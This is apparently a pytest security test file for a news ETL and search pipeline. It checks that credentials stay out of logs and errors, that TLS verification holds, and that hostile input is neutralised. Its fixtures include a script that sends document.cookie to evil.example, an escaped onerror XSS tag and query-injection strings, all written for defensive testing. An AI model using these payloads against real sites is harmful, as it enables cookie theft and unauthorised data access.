"""Security: credentials never leak, TLS with a custom CA (verification on by default), user search
text cannot change a query's structure, and nothing indexed or highlighted carries active HTML.

Elasticsearch tests use the osmem-server stand-in behind ``FaultProxy`` (TLS-terminating where
said); the certificates are made in the test with ``trustme``.
"""

from __future__ import annotations

import logging
import re
import ssl

import pytest
import trustme

from conftest import SEED
from etl.cli import main
from etl.index import open_sink
from etl.search.query import SearchError, SearchRequest
from etl.settings import Settings
from reliability.corpus import PARAGRAPHS, html_page, write_articles
from reliability.faults import FaultProxy

PASSWORD = "pw-Tr0ub4dor-3xyzzy"
API_KEY = "ak-9c1d4e77-S3CRET-key"
SECRETS = (PASSWORD, API_KEY)


def assert_no_secret(*texts: str) -> None:
    for text in texts:
        for secret in SECRETS:
            assert secret not in text, f"secret leaked: ...{text[max(0, text.find(secret) - 80):text.find(secret) + 40]}..."


# --- credentials ---------------------------------------------------------------------------------


@pytest.mark.parametrize("auth", ["password", "api_key", "password_in_url"])
def test_credentials_from_the_environment_never_reach_output_logs_or_errors(auth, tmp_path, monkeypatch, capsys, caplog, fault_proxy, tally):
    """Three runs with the secret set: server unreachable, server refusing (401), server fine."""
    write_articles(tmp_path / "in", 1)
    userinfo = f"elastic:{PASSWORD}@" if auth == "password_in_url" else ""
    if auth == "password":
        monkeypatch.setenv("ELASTICSEARCH_USERNAME", "elastic")
        monkeypatch.setenv("ELASTICSEARCH_PASSWORD", PASSWORD)
    elif auth == "api_key":
        monkeypatch.setenv("ELASTICSEARCH_API_KEY", API_KEY)
    caplog.set_level(logging.DEBUG)
    outputs = []

    def news_etl(url: str, index: str) -> int:
        monkeypatch.setenv("ELASTICSEARCH_URL", url.replace("://", "://" + userinfo))
        tally.inputs += 1
        code = main(["-v", "run", str(tmp_path / "in"), "--index-dir", str(tmp_path / index)])
        out, err = capsys.readouterr()
        outputs.extend([out, err])
        return code

    assert news_etl("http://127.0.0.1:9", "unreachable") == 1
    tally.faults += 1
    refusal = fault_proxy.inject("status", status=401, path="/")
    assert news_etl(fault_proxy.url, "refused") == 1
    fault_proxy.heal()
    assert refusal.injected >= 1
    assert news_etl(fault_proxy.url, "fine") == 0

    sent = [r.headers.get("Authorization") or r.headers.get("authorization") or "" for r in fault_proxy.requests]
    assert sent and all(header.startswith("ApiKey " if auth == "api_key" else "Basic ") for header in sent), "the secret was not used"
    assert "indexed 1" in outputs[-2]  # the run summary, checked below with everything else
    files = "".join(path.read_text() for path in tmp_path.rglob("*.jsonl"))
    assert_no_secret(*outputs, caplog.text, files, repr(Settings.from_env()))


# --- TLS -----------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def ca() -> trustme.CA:
    return trustme.CA()


@pytest.fixture
def tls_proxy(es_upstream, ca):
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    ca.issue_cert("127.0.0.1", "localhost").configure_cert(context)
    with FaultProxy(es_upstream, tls=context) as proxy:
        yield proxy


def test_tls_with_a_custom_ca_indexes_and_searches(tls_proxy, ca, tmp_path, nlp, tally):
    ca_file = tmp_path / "ca.pem"
    ca.cert_pem.write_to_path(str(ca_file))
    settings = Settings.from_env({"ELASTICSEARCH_URL": tls_proxy.url, "ELASTICSEARCH_CA_CERTS": str(ca_file)}, index_dir=tmp_path / "index")
    assert settings.es_verify_certs and tls_proxy.url.startswith("https://")

    summary = tally.run([SEED], settings, inputs=1, nlp=nlp)

    assert (summary.indexed, summary.rejected) == (1, 0)
    with open_sink(settings) as sink:
        assert sink.search(SearchRequest("Kyiv")).total == 1


def test_tls_is_verified_by_default_an_unknown_ca_is_a_clear_error(tls_proxy, tmp_path, monkeypatch, capsys, tally):
    write_articles(tmp_path / "in", 1)
    monkeypatch.setenv("ELASTICSEARCH_URL", tls_proxy.url)
    tally.inputs += 1
    tally.faults += 1

    code = main(["run", str(tmp_path / "in"), "--index-dir", str(tmp_path / "index")])

    err = capsys.readouterr().err
    assert code == 1
    assert "Elasticsearch at " + tls_proxy.url in err and "CERTIFICATE_VERIFY_FAILED" in err
    assert "Traceback" not in err
    assert tls_proxy.requests == []  # nothing was sent over the unverified connection


# --- search input and active HTML ------------------------------------------------------------------

SCRIPT = "<script>document.location='https://evil.example/?c='+document.cookie</script>"
STYLE = "<style>body { background: url('https://evil.example/pixel.png') }</style>"
# Text an attacker typed into a comment that the article quotes: legitimate text, escaped in the page.
TYPED = "&lt;img src=x onerror=alert(document.domain)&gt;"


def pages(folder) -> None:
    folder.mkdir()
    paragraphs = [*PARAGRAPHS[:3], f"Readers who tried to post {TYPED} under the story were blocked, moderators said."]
    hostile = html_page(
        "Sanctions stay in place as talks go on",
        paragraphs,
        head=f'<link rel="canonical" href="https://a.example.com/world/sanctions">{STYLE}{SCRIPT}',
        extra=SCRIPT + STYLE,
    )
    (folder / "hostile.html").write_text(hostile)
    other = html_page("Ukraine talks resume in Istanbul", PARAGRAPHS[3:6], head='<link rel="canonical" href="https://b.example.org/talks">')
    (folder / "other.html").write_text(other)


@pytest.fixture(params=["embedded", "elasticsearch"])
def hostile_index(request, tmp_path, nlp, tally):
    """Two pages, one hostile, indexed by the real pipeline into each engine; returns (settings, docs)."""
    if request.param == "embedded":
        settings = Settings.from_env({}, sink="embedded", index_dir=tmp_path / "index")
    else:
        settings = request.getfixturevalue("es_settings")
    pages(tmp_path / "in")
    docs = {}
    summary = tally.run([tmp_path / "in"], settings, inputs=2, nlp=nlp, on_document=lambda d: docs.setdefault(d.article.source, d))
    assert summary.indexed == 2, summary.reasons
    return settings, docs


def test_bodies_carry_no_script_or_style(hostile_index):
    _, docs = hostile_index
    body = docs["a.example.com"].article.body
    assert "document.cookie" not in body and "evil.example" not in body and "<script" not in body
    assert "moderators said" in body  # the story itself is kept


@pytest.mark.parametrize("index", ["articles", "quotes"])
def test_highlight_fragments_are_escaped_apart_from_the_highlight_tags(hostile_index, index):
    """The typed tag is in the article and in the quote attributed to the moderators: both come back inert."""
    settings, _ = hostile_index
    with open_sink(settings) as sink:
        result = sink.search(SearchRequest("onerror", index=index))
    fragments = [f for hit in result.hits for frags in hit.highlights.values() for f in frags]
    assert result.total == 1 and fragments
    for fragment in fragments:
        markup = re.sub(r"</?b>", "", fragment)
        assert "<" not in markup and ">" not in markup, fragment
    assert any("&lt;img" in fragment for fragment in fragments)


HOSTILE_TEXTS = [
    '{"query": {"match_all": {}}}',
    '"}}, "query": {"match_all": {}}, "qq": {"zz": "',
    "id:{id}",
    "*:*",
    '"unbalanced',
    "zebra +(quokka -",
    "title:(",
    "\\",
    "+-!|&&||~^",
    "' OR 'q'='q' --",
]


def test_user_text_is_only_ever_the_query_language(hostile_index):
    """DSL fragments, other engines' syntax and fields the language lacks are refused in one line, or
    searched as words: they never fail otherwise and never widen the search."""
    settings, docs = hostile_index
    target = docs["a.example.com"].article.id
    widened, refused = {}, []
    with open_sink(settings) as sink:
        for text in (t.replace("{id}", target) for t in HOSTILE_TEXTS):
            try:
                # None of these words is in either article, so nothing may match; and a filter always holds.
                result = sink.search(SearchRequest(text))
                filtered = sink.search(SearchRequest(text + " sanctions", filters=[("source", "b.example.org")]))
            except SearchError as err:
                assert str(err).startswith("query ") and "\n" not in str(err)
                refused.append(text)
                continue
            if result.total or any(hit.id != docs["b.example.org"].article.id for hit in filtered.hits):
                widened[text] = [hit.title for hit in result.hits + filtered.hits]
    assert not widened
    assert {"*:*", '"unbalanced', "title:("} <= set(refused)
